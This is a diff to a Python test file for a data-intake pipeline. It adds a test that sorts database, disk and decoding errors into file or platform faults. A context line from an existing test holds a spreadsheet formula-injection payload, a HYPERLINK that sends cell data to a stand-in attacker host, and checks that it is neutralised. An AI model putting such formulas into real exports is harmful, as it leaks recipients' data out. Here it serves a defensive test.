@@ -252,3 +252,30 @@ def test_reports_back_to_partners_never_carry_a_live_spreadsheet_formula(sftp, p
     assert "'=HYPERLINK(\"http://evil.example/?\"&A1,\"click\")" in values and "'@SUM(1+1)" in values
     assert not any(v.startswith(("=", "+", "-", "@")) for v in values)
     assert spreadsheet_safe("-2+3") == "'-2+3" and spreadsheet_safe("Other theft") == "Other theft"
+
+
+def test_a_fault_is_the_files_only_when_the_error_says_so(settings):
+    """A file is quarantined as its own fault only for errors of its data; a lost warehouse, a missing
+    right or a full disk fails the task (retried), and anything else is quarantined with its copy kept."""
+    import psycopg
+
+    from totalplace.access import as_role
+    from totalplace.intake import fault_of
+
+    def error_of(statement: str) -> psycopg.Error:
+        with connect(as_role(settings.warehouse_url, settings, "loader")) as conn:
+            try:
+                conn.execute(statement)
+            except psycopg.Error as exc:
+                return exc
+        raise AssertionError(f"{statement} raised nothing")
+
+    assert fault_of(error_of("select 1 / 0")) == "file"  # 22012
+    assert fault_of(error_of("select 'x'::integer")) == "file"  # 22P02
+    assert fault_of(error_of("select * from ops.audit_log")) == "platform"  # 42501: a right the loader lacks
+    with pytest.raises(psycopg.OperationalError) as unreachable:
+        psycopg.connect("host=/nonexistent-socket-dir dbname=x connect_timeout=2")
+    assert fault_of(unreachable.value) == "platform"  # no SQLSTATE: the warehouse could not be reached
+    assert fault_of(OSError(28, "No space left on device")) == "platform"
+    assert fault_of(UnicodeDecodeError("utf-8", b"\xff", 0, 1, "invalid start byte")) == "file"
+    assert fault_of(RuntimeError("something nobody foresaw")) == "unknown"
